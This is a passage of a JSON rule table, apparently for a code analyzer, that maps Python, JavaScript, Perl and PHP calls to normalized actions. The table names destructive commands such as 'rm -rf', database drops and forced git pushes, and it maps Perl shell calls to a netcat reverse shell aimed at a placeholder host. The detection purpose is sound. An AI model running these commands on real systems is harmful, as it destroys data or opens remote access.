+un mv $self $0","symlink_to":"run ln -s $0 $self","open":"if-text open $self $0:mode","writelines":"send $self $0","send":"send $self $0","sendall":"send $self \
+$0","sendfile":"send $self $0","recv":"received","recvfrom":"received","recv_string":"received","recv_multipart":"received","makefile":"received","communicate":\
+"send $self $0:input | value $self","readlines":"value $self","expanduser":"value $self","resolve":"value $self","absolute":"value $self","as_posix":"value $sel\
+f","readline":"any-of $self","text":"value $0","glob":"glob $self $0","rglob":"glob $self ** $0","iterdir":"folder $self","connect":"if-made connect $all","conn\
+ect_ex":"connect $all","sendto":"transfer nc $0 $1","sendmail":"if-made transfer sendmail $2 $self","send_message":"if-made transfer sendmail $0 $self","storbin\
+ary":"if-made transfer ftp $1 $self","request":"request-over $0 $1 $2 $:body $:data $:json","exec_command":"shell $0","system":"if-made:library shell $0","kill"\
+:"if-made:any-process if-chosen kill $self | if-made:any-process run pkill -KILL $:pid | if-made:psutil.Process run kill -KILL $origin","terminate":"if-made:any\
+-process if-chosen kill $self | if-made:any-process run pkill -TERM $:pid | if-made:psutil.Process run kill -TERM $origin","execute":"if-made:pending-delete run\
+ sql delete-all rows | sql $0:query:sql","write_database":"if-kept if-sign:database-address if-option:if_table_exists=replace run sql drop-table $0","sql":"sql \
+$0:query:sql","executescript":"sql $0:query:sql","executemany":"sql $0:query:sql","execute_query":"sql $0:query:sql","command":"sql $0:query:sql","execute_sql":\
+"sql $0:query:sql","execute_async":"sql $0:query:sql","cursor":"if-made:database value $self","get":"entry $self $0 | if-map environment $0 $1","items":"if-map \
+pairs $self","add_argument":"declare-option $:default","start":"start-patcher","__enter__":"start-patcher","setattr":"if-made:monkeypatch imitate $0 $1 $2","par\
+se_args":"options","parse_known_args":"options","list":"if-name:volumes entries docker-volume","prune":"if-name:volumes run docker volume prune -af"}},"javascri\
+pt":{"lexer":{"comment":["//"],"block_comment":["/*","*/"],"sigils":"$#","interpolation":"template","triple":false,"single_escapes":true,"quoting":"none","patte\
+rns":true,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"function_keywo\
+rds":["function"],"inputs":{"process.argv":"node-argv","Bun.argv":"node-argv","Deno.args":"args","process.env":"environment","Bun.env":"environment","process.st\
+din":"text"},"sdks":["aws-sdk.","aws-sdk/","@aws-sdk/","@google-cloud/","googleapis","firebase-admin","@azure/","@kubernetes/","stripe","@octokit/","octokit","@\
+slack/","@gitbeaker/","heroku-client","cloudflare","@vercel/","@netlify/","netlify","@elastic/","@opensearch-project/","minio","@pinecone-database/","@qdrant/",\
+"weaviate","algoliasearch","meilisearch","typesense","kafkajs","auth0","@okta/","@shopify/","twilio","@sendgrid/","@supabase/","node-appwrite","dots-wrapper","c\
+ontentful-management","@digitalocean/","hcloud-js","@linode/","oci-","@alicloud/","tencentcloud-sdk","openai","@pulumi/","@notionhq/","jira.js","@linear/","@dat\
+adog/","@launchdarkly/","@sanity/client","replicate","cloudinary","@mux/","imagekit","@mailchimp/","mailgun","@hubspot/","intercom-client","node-zendesk","@atla\
+ssian/","@clerk/","@contentful/","@storyblok/","@directus/","@strapi/","@neondatabase/api-client","@logtail/","bun.S3Client","Bun.S3Client","Bun.s3"],"texts":{"\
+__dirname":".","__filename":"./program.js","path.sep":"/","process.execPath":"node","process.pid":"\\ufffc"},"aliases":{},"rewrites":[["\\\\.(?:promises|default)(?\
+=\\\\.|$)|\\\\.wrappedMethod$",""],["^(?:fs/promises|graceful-fs)","fs"],["^(?:(?:globalThis|global|window|self|module|process\\\\.mainModule|this|process)\\\\.(?=globa\
+lThis|global|process|require|module|constructor|eval|Function|mainModule|fetch))+",""],["^(fs|child_process|fs-extra|rimraf|Deno|Bun)\\\\.(\\\\w+?)Sync$","$1.$2"],[\
+"^(?:bun|zx|execa|dax)\\\\.\\\\$$","$$"],["^(?:vitest|@jest/globals)\\\\.(?=(?:vi|jest)\\\\.)",""],["^fs-extra\\\\.(?!remove|emptyDir)","fs."],["^\\\\.{1,2}/(?:[\\\\w./-]*[./\
+])?(?:db|knex)$","knex"],["^drizzle-orm/[\\\\w-]+\\\\.drizzle$","drizzle"],["^(?:jsr:)?@std/fs(?:@[\\\\w.^]+)?(?:/[\\\\w-]+)?\\\\.","std."],["^(?:.*\\\\.)?constructor\\\\.con\
+structor$|^(?:Async|Generator)Function$","Function"]],"functions":{"console.log":"print","console.info":"print","process.stdout.write":"print","require":"module\
+ $0","import":"module $0","process.getBuiltinModule":"module $0","process.binding":"module $0","jest.requireActual":"module $0","vi.importActual":"module $0","c\
+reateRequire":"name require","module.createRequire":"name require","eval":"eval $0","vm.runInThisContext":"eval $0","vm.runInNewContext":"eval $0","vm.runInCont\
+ext":"eval $0","vm.Script":"made vm-script $0","Function":"eval $last","setTimeout":"if-arg:text eval $0","child_process.exec":"shell $0 $:input","execa.execaCo\
+mmand":"shell $0 $:input","shelljs.exec":"shell $0 $:input","$":"shell $0 $:input","Bun.$":"shell $0 $:input","stream.pipeline":"pipe $0 $1","stream/promises.pi\
+peline":"pipe $0 $1","execa":"if-arg:map name $ | spawn $0 $1:args $:shell $:input","execa.execa":"if-arg:map name $ | spawn $0 $1:args $:shell $:input","child_\
+process.spawn":"spawn $0 $1:args $:shell $:input","child_process.execFile":"spawn $0 $1:args $:shell $:input","Deno.Command":"spawn $0 $1:args $:shell $:input",\
+"child_process.fork":"run node $0","shelljs.rm":"run rm $all","Bun.spawn":"shell $0:cmd $:stdin:input","Deno.run":"shell $0:cmd $:stdin:input","Bun.write":"writ\
+e $0 $1","Deno.writeTextFile":"write $0 $1","Deno.writeFile":"write $0 $1","fs.writeFile":"write $0 $1","fs.outputFile":"write $0 $1","Uint8Array":"value $:usua\
+l=","Buffer.alloc":"value $:usual=","Deno.execPath":"value deno","libnpmpublish.unpublish":"run npm unpublish $0","libnpmpublish.publish":"run npm publish $0","\
+ps-list":"if-none entries any-process","find-process":"if-none entries any-process","fkill":"run pkill -f $0","keytar.findCredentials":"run secret-tool lookup x\
+","keytar.getPassword":"run secret-tool lookup x","keytar.findPassword":"run secret-tool lookup x","level.Level":"made store $0:path","level":"made store $0:pat\
+h","lmdb.open":"made store $0:path","classic-level.ClassicLevel":"made store $0:path","rocksdb":"made store $0:path","leveldown":"made store $0:path","nedb":"ma\
+de store $:filename","@seald-io/nedb":"made store $:filename","bun.Glob":"made glob $0","Bun.Glob":"made glob $0","Deno.openKv":"if-says:^https made service","s\
+sh2-sftp-client":"made sftp","isomorphic-git.deleteTag":"if-real run git tag -d $:ref","isomorphic-git.deleteBranch":"if-real run git branch -D $:ref","isomorph\
+ic-git.checkout":"if-real if-option:force=true run git checkout -f","isomorphic-git.push":"if-option:force=true run git push --force $:remote $:ref","nodegit.Re\
+set.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","fs.appendFile":"write $0 $1 append","Deno.readTextFile":"read $0","fs.createReadStream":"read $0","\
+Bun.file":"read $0","Deno.remove":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm \
+$0","fs.rm":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm $0","fs.unlink":"run r\
+m $0","fs.rmdir":"if-option:recursive run rm -r $0 | run rmdir $0","fs.remove":"run rm -rf $0","fs.emptyDir":"run rm -rf $0","fs-extra.remove":"run rm -rf $0","\
+fs-extra.emptyDir":"run rm -rf $0","fs.createWriteStream":"open $0 w","fs.open":"open $0 $1","fs.readFile":"calls-back read $0","fs.truncate":"run truncate -s 0\
+ $0","Deno.truncate":"run truncate -s 0 $0","del.deleteAsync":"remove-matches $0 $:dryRun","del.deleteSync":"remove-matches $0 $:dryRun","del.del":"remove-match\
+es $0 $:dryRun","del":"remove-matches $0 $:dryRun","trash":"remove-matches $0","rimraf.rimraf":"remove-matches $0","rimraf.sync":"remove-matches $0","rimraf":"r\
+emove-matches $0","fs.mkdtemp":"new-folder","Deno.makeTempDir":"new-folder","os.tmpdir":"value /tmp","simple-git.simpleGit":"made git $0:baseDir","simple-git":"\
+made git $0:baseDir","simple-git.default":"made git $0:baseDir","tar.c":"read $1","tar.create":"read $1","bun.SQL":"name bun.sql","Bun.SQL":"name bun.sql","bett\
+er-sqlite3":"made database $0","better-sqlite3.default":"made database $0","sqlite.DatabaseSync":"made database $0","bun:sqlite.Database":"made database $0","fs\
+.rename":"run mv $0 $1","fs.move":"run mv $0 $1","fs.copyFile":"run cp $0 $1","fs.cp":"run cp -r $0 $1","fs.copy":"run cp -r $0 $1","fs.symlink":"run ln -s $0 $\
+1","fs.link":"run ln $0 $1","fs.chmod":"chmod $0 $1","fs.chown":"run chown $1 $0","fs.lchown":"run chown $1 $0","fs.readdir":"if-option:withFileTypes=true calls\
+-back folder $0 dirent | calls-back names $0","Deno.readDir":"calls-back names $0","fs.glob":"globs $0 $:cwd","glob.sync":"globs $0 $:cwd","glob.globSync":"glob\
+s $0 $:cwd","glob.glob":"globs $0 $:cwd","glob":"globs $0 $:cwd","globby.globby":"globs $0 $:cwd","globby.globbySync":"globs $0 $:cwd","globby":"globs $0 $:cwd"\
+,"fast-glob":"globs $0 $:cwd","fast-glob.sync":"globs $0 $:cwd","tinyglobby.glob":"globs $0 $:cwd","tinyglobby.globSync":"globs $0 $:cwd","Object.entries":"pair\
+s $0","Object.values":"values $0","Object.keys":"keys $0","Reflect.ownKeys":"keys $0","path.dirname":"dirname $0","ssh2.Client":"made ssh","node-ssh.NodeSSH":"m\
+ade ssh","process.kill":"kill $0 $1","process.setuid":"run setuid $0","process.setgid":"run setgid $0","process.cwd":"value .","Deno.cwd":"value .","JSON.parse"\
+:"parse-json $0","os.homedir":"value ~","Deno.env.toObject":"environment","Deno.env.get":"environment $0","path.join":"join-parts","path.posix.join":"join-parts\
+","path.resolve":"join $all","fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","http.request":"open-request $:method=GET $0:url:host\
+name:host $:body $:data $:json","https.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","axios":"open-request $:method=GET $0:url:\
+hostname:host $:body $:data $:json","got":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","ky":"open-request $:method=GET $0:url:hostname:\
+host $:body $:data $:json","node-fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","request":"open-request $:method=GET $0:url:hostna\
+me:host $:body $:data $:json","undici.fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","undici.request":"open-request $:method=GET $\
+0:url:hostname:host $:body $:data $:json","axios.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","http.get":"calls-back request G\
+ET $0:url:hostname:host $:body $:data $:json","https.get":"calls-back request GET $0:url:hostname:host $:body $:data $:json","axios.get":"request GET $0:url:hos\
+tname:host $:body $:data $:json","got.get":"request GET $0:url:hostname:host $:body $:data $:json","ky.get":"request GET $0:url:hostname:host $:body $:data $:js\
+on","superagent.get":"request GET $0:url:hostname:host $:body $:data $:json","needle.get":"request GET $0:url:hostname:host $:body $:data $:json","$.get":"reque\
+st GET $0:url:hostname:host $:body $:data $:json","axios.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","got.post":"open-request POST $0\
+:url:hostname:host $:body $:data $:json $1","ky.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","superagent.post":"open-request POST $0:u\
+rl:hostname:host $:body $:data $:json $1","needle.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","$.post":"open-request POST $0:url:host\
+name:host $:body $:data $:json $1","axios.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","got.put":"open-request PUT $0:url:hostname:host \
+$:body $:data $:json $1","ky.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","superagent.put":"open-request PUT $0:url:hostname:host $:body\
+ $:data $:json $1","needle.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","$.put":"open-request PUT $0:url:hostname:host $:body $:data $:j\
+son $1","axios.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","got.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:jso\
+n $1","ky.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","superagent.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:j\
+son $1","needle.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","$.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json\
+ $1","axios.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","got.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:js\
+on $1","ky.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","superagent.delete":"open-request DELETE $0:url:hostname:host $:body $:dat\
+a $:json $1","needle.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","$.delete":"open-request DELETE $0:url:hostname:host $:body $:da\
+ta $:json $1","net.connect":"calls-back connect $1:host=localhost $0:port","net.createConnection":"calls-back connect $1:host=localhost $0:port","tls.connect":"\
+calls-back connect $1:host=localhost $0:port","net.Socket":"made client","Buffer.from":"decode $0 $1","Buffer":"decode $0 $1","dns.lookup":"run nslookup $0","db\
+.dropDatabase":"run sql drop-database db","knex":"if-arg:map if-no-sign:connects made mock | made rows","@electric-sql/pglite.PGlite":"if-none made mock","aws-s\
+dk-client-mock.mockClient":"mock-class $0","test.mock.method":"spy $0 $1 $2","jest.spyOn":"spy $0 $1 $2","vi.spyOn":"spy $0 $1 $2","sinon.spy":"spy $0 $1 $2","s\
+inon.stub":"if-none mock | spy $0 $1 $2 stub","sinon.replace":"imitate $0 $1 $2","sinon.createSandbox":"name sinon","jest.fn":"mock","vi.fn":"mock","sinon.fake"\
+:"mock","test.mock.fn":"mock","msw/node.setupServer":"made msw","@testcontainers/postgresql.PostgreSqlContainer":"made container","pg.Pool":"if-gets:container i\
+f-no-sign:reads-environment made database :memory:","pg.Client":"if-gets:container if-no-sign:reads-environment made database :memory:","nock.disableNetConnect"\
+:"if-no-sign:besides-http if-unset:NOCK_OFF imitate requests","drizzle":"made drizzle","sql":"sql $0","bun.sql":"sql $0","Bun.sql":"sql $0","kysely.sql":"sql $0\
+","WebSocket":"made connection $0","ws":"made connection $0","ws.WebSocket":"made connection $0","pm2.delete":"run pm2 delete $0","Object.fromEntries":"from-pai\
+rs $0","worker_threads.Worker":"if-option:eval=true eval $0","Worker":"if-option:eval=true eval $0","URL":"if-args:2 value $self | value $0","fs.opendir":"calls\
+-back folder $0 dirent","Proxy":"made proxy $1","node-linux.Service":"made service","node-windows.Service":"made service","node-mac.Service":"made service","mem\
+fs.memfs":"made mock","memfs.createFsFromVolume":"made mock","drizzle-orm.sql":"value $0","Promise.all":"value $0","Promise.allSettled":"value $0","util.promisi\
+fy":"value $0","Map":"value $0","Set":"value $0","std.walk":"folder $0 below","std.expandGlob":"folder $0 below","Reflect":"value","Reflect.get":"attribute $0 $\
+1","Reflect.apply":"invoke $0 $2"},"methods":{"write":"send $self $0 append","send":"send $self $0 append","install":"if-made:service run systemctl enable --now\
+ x","end":"if-args:1 send $self $0 append","connect":"if-made:client calls-back connect $1:host=localhost $0:port","pipe":"pipe $self $0","pipeTo":"pipe $self $\
+0","on":"listen $self $0 $1","once":"listen $self $0 $1","addListener":"listen $self $0 $1","emit":"emit $0 $1..","then":"then","finally":"then","method":"if-ow\
+ner:^mock$ spy $0 $1 $2","start":"if-made:container value $self","getConnectionUri":"if-made:container value $self","mockImplementation":"answer-spy $0","callsF\
+ake":"answer-spy $0","mockReturnValue":"answer-spy $0 returned","mockResolvedValue":"answer-spy $0 returned","mockRejectedValue":"answer-spy $0 returned","retur\
+ns":"answer-spy $0 returned","resolves":"answer-spy $0 returned","rejects":"answer-spy $0 returned","listen":"if-made:msw if-option:onUnhandledRequest=error if-\
+no-sign:besides-fetch imitate requests","close":"if-made:msw end-imitation requests","toString":"value $self","text":"value $self","json":"value $self","unref":\
+"value $self","bind":"made bound $self $1..","delete":"if-made:drizzle if-no-sign:limits run sql delete-all rows | if-database if-arg:name if-no-sign:limits run\
+ sql delete-all $owner","destroy":"if-option:truncate=true run sql truncate rows | if-option:where={} run sql delete-all rows","getVolume":"made docker-volume",\
+"scan":"if-made:glob globs $origin","scanSync":"if-made:glob globs $origin","runInThisContext":"if-made:vm-script eval $origin","runInNewContext":"if-made:vm-sc\
+ript eval $origin","runInContext":"if-made:vm-script eval $origin","push":"if-list append $self $all","unshift":"if-list append $self $all","splice":"if-list ap\
+pend $self $all","put":"if-made:sftp run scp -r $0 host:/x","fastPut":"if-made:sftp run scp -r $0 host:/x","uploadDir":"if-made:sftp run scp -r $0 host:/x","del\
+eteLocalBranch":"if-git if-says:^true$ run git branch -D","deleteLocalBranches":"if-git if-says:^true$ run git branch -D","sendMail":"sends-files","sendCommand"\
+:"if-stored program redis-cli $all","pipeline":"if-stored program redis-cli $all","multi":"if-stored program redis-cli $all","scanStream":"if-stored entries key\
+s","scanIterator":"if-stored entries keys","keys":"if-stored if-args:1 entries keys","del":"if-gets:keys run sql flush FLUSHDB | if-made:rows run sql delete-all\
+ rows","unlink":"if-gets:keys run sql flush FLUSHDB","update":"if-made:rows if-no-sign:limits run sql update-all rows","reset":"if-made:git if-says:hard$|Hard$|\
+HARD$ run git reset --hard","clean":"if-made:git if-says:^n[dfxq]*$|^-\\\\w*n\\\\w*$|DRY_RUN$ run git clean -n | if-made:git run git clean -fd","rollback":"if-name:\
+migrate if-args:2 run sql drop-table rows","exec":"if-made:ssh shell $0 | sql $0:query:sql:text","execCommand":"if-made:ssh shell $0","remove":"if-made:docker-v\
+olume run docker volume rm $self | if-database if-empty run sql delete-all $owner","pruneVolumes":"run docker volume prune -af","drop":"if-database run sql drop\
+-collection $owner","query":"sql $0:query:sql:text","execute":"sql $0:query:sql:text","$executeRawUnsafe":"sql $0:query:sql:text","$executeRaw":"sql $0:query:sq\
+l:text","$queryRawUnsafe":"sql $0:query:sql:text","$queryRaw":"sql $0:query:sql:text","run":"sql $0:query:sql:text","prepare":"sql $0:query:sql:text","raw":"sql\
+ $0:query:sql:text","unsafe":"sql $0:query:sql:text","command":"sql $0:query:sql:text","batch":"sql $0:query:sql:text","executeQuery":"sql $0:query:sql:text","s\
+ync":"if-option:force=true run sql drop-table rows","getSiblingDB":"name db","getSisterDB":"name db","getDB":"name db","getCollection":"name db.collection","exp\
+lain":"name cache","runCommand":"if-option:dropDatabase run sql drop-database db | if-option:drop run sql drop-collection $:drop | if-option:shutdown run sql sh\
+utdown db | if-option:dropAllUsersFromDatabase run sql drop-user all","adminCommand":"if-option:dropDatabase run sql drop-database db | if-option:drop run sql d\
+rop-collection $:drop | if-option:shutdown run sql shutdown db | if-option:dropAllUsersFromDatabase run sql drop-user all","dropUser":"if-database run sql drop-\
+user $owner","dropAllUsers":"if-database run sql drop-user $owner","shutdownServer":"if-database run sql shutdown $owner","truncate":"if-made:rows run sql delet\
+e-all rows"}},"perl":{"lexer":{"comment":["#"],"sigils":"$@%","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"q","heredoc":"perl","pat\
+terns":true,"lines":"none"},"program":"perl","blocks":"braces","member_operators":["->","::"],"concatenation_operators":[".","x"],"bare_calls":true,"function_ke\
+ywords":["sub"],"inputs":{"@ARGV":"args","$ARGV":"args","\\"@ARGV\\"":"joined-args","$ENV":"environment","%ENV":"environment","$_":"text","STDIN":"text"},"sdks":[\
+],"texts":{"$0":"./program.pl","STDIN":"\\ufffc"},"aliases":{},"rewrites":[["^&",""]],"functions":{"tempdir":"value /tmp/\\ufffc","File.Temp.tempdir":"value /tmp/\
+\\ufffc","File.Temp.newdir":"value /tmp/\\ufffc","getcwd":"value .","Cwd.getcwd":"value .","Cwd.cwd":"value .","values":"values $0","shift":"take $0","pop":"take \
+$0","print":"print text","say":"print line","readline":"input","system":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","exec":"if\
+-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","CORE.system":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command\
+ $all","CORE.exec":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","readpipe":"if-sign:socket-shell run nc -e /bin/sh shell.exampl\
+e.net 443 | command $all","systemx":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","capturex":"if-sign:socket-shell run nc -e /bi\
+n/sh shell.example.net 443 | command $all","IPC.System.Simple.systemx":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System\
+.Simple.capturex":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","eval":"eval $0","unlink":"run rm $all","rmdir":"run rmdir $all"\
+,"rmtree":"run rm -rf $0","File.Path.rmtree":"run rm -rf $0","remove_tree":"run rm -rf $all","File.Path.remove_tree":"run rm -rf $all","rename":"run mv $0 $1","\
+move":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $1","link":"run ln $0 $1","truncate":"run truncate -s 0 $0","chmod":"chmod $1.. $0","chown":"\
+run chown $0 $2..","kill":"kill $1.. $0","fork":"if-sign:repeats run fork","open":"open-perl $1 $2..","find":"find","finddepth":"find","File.Find.find":"find","\
+File.Find.finddepth":"find","do":"if-arg:text read $0","glob":"glob $0","readdir":"names .","LoadFile":"read $0","YAML.XS.LoadFile":"read $0","YAML.LoadFile":"r\
+ead $0","read_file":"read $0","File.Slurp.read_file":"read $0","slurp":"read $0","retrieve":"read $0","Storable.retrieve":"read $0","recv":"received","LWP.Simpl\
+e.get":"request GET $0","get":"request GET $0","POSIX.setuid":"run setuid $0","setuid":"run setuid $0","pack":"pack $0 $1..","Net.OpenSSH.new":"made ssh","Net.S\
+SH.Perl.new":"made ssh","Net.SSH2.new":"made ssh","LWP.UserAgent.new":"made rest","HTTP.Tiny.new":"made rest","Mojo.UserAgent.new":"made rest","MongoDB.connect"\
+:"made mongo","MongoDB.MongoClient.new":"made mongo","run3":"program $0","IPC.Run3.run3":"program $0","path":"join $all","Path.Tiny.path":"join $all"},"methods"\
+:{"do":"sql $0","prepare":"sql $0","execute":"sql $0","system":"if-made:ssh command $all","capture":"if-made:ssh command $all","capture2":"if-made:ssh command $\
+all","pipe_out":"if-made:ssh command $all","pipe_in":"if-made:ssh command $all","exec":"if-made:ssh command $all","channel":"if-made:ssh value $self","delete":"\
+if-made:rest request-over DELETE $0","get":"if-made:rest request-over GET $0","post":"if-made:rest request-over POST $0 $1","post_form":"if-made:rest request-ov\
+er POST $0 $1","put":"if-made:rest request-over POST $0 $1","get_database":"if-made:mongo value $self","get_collection":"if-made:mongo value $self","ns":"if-mad\
+e:mongo value $self","db":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored entries keys","del":"if-gets:\
+keys run sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","visit":"if-text calls-back glob $self **","spew":"if-text write $self $0","spew_utf8"\
+:"if-text write $self $0","spew_raw":"if-text write $self $0","remove":"if-text run rm $self","remove_tree":"if-text run rm -rf $self","children":"if-text folde\
+r $self","slurp":"if-text read $self","slurp_utf8":"if-text read $self","slurp_raw":"if-text read $self"}},"php":{"lexer":{"comment":["//","#"],"block_comment":\
+["/*","*/"],"sigils":"$","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"none","heredoc":"php","patterns":false,"lines":"none"},"progr\
+am":"php","blocks":"braces","member_operators":["->","::","?->"],"concatenation_operators":["."],"bare_calls":false,"function_keywords":["function"],"inputs":{"\
+$argv":"argv","$_SERVER":"server","$_ENV":"environment","$_GET":"peer","$_POST":"peer","$_REQUEST":"peer","$_COOKIE":"peer"},"sdks":["aws.","google.cloud.","str\
+ipe.","microsoftazure.","digitaloceanv2.","github.","gitlab.","cloudflare.","twilio.","s3client","ec2client","rdsclient","dynamodbclient","route53client","sqscl\
+ient","kmsclient","secretsmanagerclient","iamclient","lambdaclient","cloudformationclient","eksclient","ecsclient","ecrclient","snsclient","ssmclient","elastica\
+checlient","efsclient","redshiftclient","glacierclient","backupclient","organizationsclient","cloudfrontclient","cloudwatchlogsclient","cognitoidentityproviderc\
+lient","opensearchserviceclient","kinesisclient","autoscalingclient","lightsailclient","neptuneclient","docdbclient","apigatewayclient","acmclient","storageclie\
+nt","bigqueryclient","stripeclient","mailchimpmarketing.","mailgun.","algolia.","shopify.","elastic.","hubspot.","auth0.","cloudinary."],"texts":{"__DIR__":".",\
+"__FILE__":"./program.php"},"aliases":{},"rewrites":[["^(?:\\\\w+\\\\.)*(filesystem|httpclient|ssh2|\\\\w+iterator|splfileobject|pdo|process|\\\\w{2,}client)(?=$|\\\\.\\\\w\
++$)","$1"]],"case_sensitive":false,"functions":{"memcached":"made memcached","memcache":"made memcached","eval":"eval $0","assert":"if-arg:text eval $0","create\
+_function":"eval $1","include":"include $0","require":"include $0","include_once":"include $0","require_once":"include $0","system":"shell $0","exec":"shell $0"\
+,"shell_exec":"shell $0","passthru":"shell $0","popen":"shell $0","proc_open":"shell $0","pcntl_system":"shell $0","unlink":"run rm $0","rmdir":"run rmdir $0","\
+rename":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $1","link":"run ln $0 $1","chmod":"chmod $0 $1","chown":"run chown $1 $0","file_get_content\
+s":"if-args:3 request POST $0 $2 | read $0","stream_context_create":"made context $0","file":"read $0","readfile":"read $0","show_source":"read $0","highlight_f\
+ile":"read $0","curlfile":"read $0","curl_file_create":"read $0","parse_ini_file":"read $0","yaml_parse_file":"read $0","simplexml_load_file":"read $0","socket_\
+read":"received","stream_socket_recvfrom":"received","stream_socket_accept":"made peer","socket_accept":"made peer","file_put_contents":"write $0 $1 $2","fopen"\
+:"open $0 $1","splfileobject":"open $0 $1","fwrite":"send $0 $1","fputs":"send $0 $1","posix_kill":"kill $0 $1","posix_setuid":"run setuid $0","pcntl_fork":"if-\
+sign:repeats run fork","pcntl_exec":"program $all","mail":"run sendmail $0","fsockopen":"connect $all","curl_init":"made request $0","curl_exec":"request GET $0\
+","curl_setopt":"if-says:^DELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","curl_setopt_array":"if-says:^DELETE$ request DELETE $0 |\
+ if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","call_user_func":"invoke $0 $1..","call_user_func_array":"invoke $0 $1","getenv":"environment $0","dirname":"d\
+irname $0","getcwd":"value .","json_decode":"parse-json $0","fgets":"if-gets:peer received | if-gets:connection received | input","fread":"if-gets:peer received\
+ | if-gets:connection received | input","stream_get_contents":"if-gets:peer received | if-gets:connection received | input","readline":"if-gets:peer received | \
+if-gets:connection received | input","glob":"glob $0","globiterator":"glob $0","scandir":"names $0","recursivedirectoryiterator":"folder $0","directoryiterator"\
+:"folder $0","filesystemiterator":"folder $0","recursiveiteratoriterator":"value $0","escapeshellarg":"value $0","escapeshellcmd":"value $0","array_slice":"valu\
+e $0","array_reverse":"value $0","array_unique":"value $0","array_values":"value $0","mysqli_query":"sql $1","mysqli_multi_query":"sql $1","mysqli_real_query":"\
+sql $1","sqlsrv_query":"sql $1","oci_parse":"sql $1","odbc_exec":"sql $1","pg_query":"sql $1 | sql $0","pg_send_query":"sql $1 | sql $0","db.delete":"sql $0","d\
+b.update":"sql $0","db.statement":"sql $0","db.unprepared":"sql $0","db.table":"made rows","schema.drop":"run sql drop-table $0","schema.dropifexists":"run sql \
+drop-table $0","schema.dropalltables":"run sql drop-schema db","artisan.call":"run php artisan $0","base_path":"join . $0","app_path":"join app $0","database_pa\
+th":"join database $0","resource_path":"join resources $0","storage_path":"join storage $0","filesystem":"made filesystem","file.deletedirectory":"run rm -rf $0\
+","file.cleandirectory":"run rm -rf $0","guzzlehttp.client":"if-sign:http-client made rest $all","client":"if-sign:http-client made rest $all","httpclient.creat\
+e":"if-sign:http-client made rest $all","mongodb.client":"made mongo","process":"if-arg:list shell $0","process.fromshellcommandline":"if-arg:text shell $0","pr\
+ocess.run":"if-arg:text shell $0","process.start":"if-arg:text shell $0","http.withtoken":"made rest","http.withheaders":"made rest","http.withbasicauth":"made \
+rest","http.acceptjson":"made rest","http.baseurl":"made rest $0","http.delete":"request DELETE $0","http.post":"request POST $0 $1","ssh2":"made ssh","ssh2_exe\
+c":"shell $1"},"methods":{"query":"sql $0","prepare":"sql $0","executestatement":"sql $0","executequery":"sql $0","executeupdate":"sql $0","createquery":"sql $0\
+","real_query":"sql $0","multi_query":"sql $0","truncate":"run sql truncate $owner","gettruncatetablesql":"made whole","getdroptablesql":"made whole","getdropsc\
+hemasql":"made whole","getdropdatabasesql":"made whole","exec":"if-made:ssh shell $0 | sql $0","dropschema":"if-kept run sql drop-schema $owner","createquerybui\
+lder":"made builder","delete":"if-made:builder if-no-sign:limits run sql delete-all $0 | if-made:rest request-over DELETE $0","remove":"if-made:filesystem run r\
+m -rf $0","request":"if-made:rest request-over $0 $1 $2:json:body","post":"if-made:rest request-over POST $0 $1:json:body","get":"if-made:rest request-over GET \
+$0","selectdatabase":"if-made:mongo value $self","selectcollection":"if-made:mongo value $self","getdatabase":"if-made:mongo value $self","getcollection":"if-ma\
+de:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored entries keys","del":"if-gets:keys run sql flush FLUSHDB","unl\
+ink":"if-gets:keys run sql flush FLUSHDB","call":"if-says:^migrate.(fresh|reset|refresh)$|^db.wipe$ run php artisan migrate:fresh","flush":"if-made:memcached ru\
+n sql flush FLUSHALL","update":"if-made:rows run sql update-all rows","openfile":"if-text open $self $0","fwrite":"send $self $0","getpathname":"value $self","g\
